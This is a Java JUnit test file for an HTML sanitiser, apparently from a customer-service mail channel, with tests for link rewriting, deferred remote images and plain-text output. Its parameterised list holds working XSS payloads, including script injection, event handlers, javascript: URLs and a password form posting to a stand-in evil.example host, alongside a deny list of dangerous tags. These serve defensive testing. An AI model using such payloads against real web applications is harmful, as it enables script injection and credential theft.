package org.kefu.channel.control;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Set;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlCleanerTest {

  private static final Set<String> DANGEROUS =
      Set.of(
          "script",
          "style",
          "form",
          "input",
          "button",
          "textarea",
          "select",
          "iframe",
          "frame",
          "frameset",
          "object",
          "embed",
          "applet",
          "svg",
          "math",
          "link",
          "meta",
          "base",
          "template",
          "noscript",
          "video",
          "audio",
          "source",
          "set",
          "animate",
          "xml",
          "marquee",
          "isindex");

  private final HtmlCleaner cleaner = new HtmlCleaner();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"java\tscript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#106;avascript&colon;alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<svg onload=alert(1)><circle r=9></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,x\"></object><embed src=x>",
        "<form action=https://evil.example><input type=password name=p></form>",
        "<div style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<base href=https://evil.example/><link rel=stylesheet href=x.css>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<table background=\"javascript:alert(1)\"><td onmouseover=alert(1)>x",
        "<p id=x name=location>clobber</p>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<a href=https://ok.example target=_self rel=opener onfocus=alert(1) autofocus>x</a>"
      })
  void nothingExecutableRemains(String html) {
    assertHarmless(cleaner.clean(html));
  }

  @TestFactory
  Stream<DynamicTest> knownAttacks() throws IOException {
    Path file = SharedData.folder("naughty").resolve("html.json");
    if (!Files.isRegularFile(file)) {
      return Stream.of(SharedData.missing("known attacks", "naughty/html.json"));
    }
    JsonNode attacks = new ObjectMapper().readTree(file.toFile());
    return StreamSupport.stream(attacks.spliterator(), false)
        .map(
            attack ->
                dynamicTest(
                    attack.path("title").asText(),
                    () -> assertHarmless(cleaner.clean(attack.path("payload").asText()))));
  }

  private static void assertHarmless(String html) {
    for (Element element : Jsoup.parseBodyFragment(html).body().select("*")) {
      assertThat(DANGEROUS).doesNotContain(element.normalName());
      for (Attribute attribute : element.attributes()) {
        assertHarmless(element, attribute, html);
      }
    }
  }

  private static void assertHarmless(Element element, Attribute attribute, String html) {
    String name = attribute.getKey().toLowerCase();
    String value = attribute.getValue().replaceAll("[\\s\\p{Cntrl}]", "").toLowerCase();
    assertThat(name).as(html).doesNotStartWith("on").isNotIn("style", "srcdoc", "id", "background");
    if (Set.of("href", "src", "action", "data-src", "cite").contains(name)) {
      assertThat(value).as(html).doesNotStartWith("javascript:").doesNotStartWith("vbscript:");
      assertThat(value).as(html).doesNotContain("svg");
      assertThat(value.startsWith("data:") && !element.normalName().equals("img")).isFalse();
    }
  }

  @Test
  void linksCannotReachBack() {
    assertThat(cleaner.clean("<a href=\"https://shop.example/a?b=1&c=2\" target=_self>shop</a>"))
        .contains("rel=\"noopener noreferrer nofollow\"", "target=\"_blank\"");
  }

  @Test
  void remotePicturesWait() {
    String clean = cleaner.clean("<img src=\"https://track.example/o.gif\" width=1>");
    assertThat(clean).contains("data-src=\"https://track.example/o.gif\"").doesNotContain(" src=");
    assertThat(clean).contains("alt=\"\"");
  }

  @Test
  void picturesOfTheMailStay() {
    String data = "data:image/png;base64,iVBORw0KGgo=";
    assertThat(cleaner.clean("<img src=\"cid:a@b\">")).contains("src=\"cid:a@b\"");
    assertThat(cleaner.clean("<img src=\"" + data + "\">")).contains(data);
  }

  @Test
  void plainTextIsReadable() {
    String html =
        "<style>p{}</style><p>您好，</p><p>第一行<br>第二行</p><ul><li>一</li><li>二</li></ul>"
            + "<table><tr><td>a</td><td>b</td></tr></table><a href='https://x.example'>官网</a>"
            + " <a href='https://y.example'>https://y.example</a><pre>x  y</pre>";
    assertThat(cleaner.toText(html).replaceAll("\\n+", "\n"))
        .isEqualTo("您好，\n第一行\n第二行\n- 一\n- 二\na b\n官网 (https://x.example) https://y.example\nx  y");
  }

  @Test
  void bottomlessNestingIsTakenAsText() {
    String html = "<div>".repeat(100_000) + "你好<script>x</script>";
    assertThat(cleaner.clean(html)).isEqualTo("你好 x");
    assertThat(cleaner.toText(html)).isEqualTo("你好 x");
  }

  @Test
  void nothingIsCleanedToNothing() {
    assertThat(cleaner.clean(null)).isEmpty();
    assertThat(cleaner.toText("")).isEmpty();
  }
}
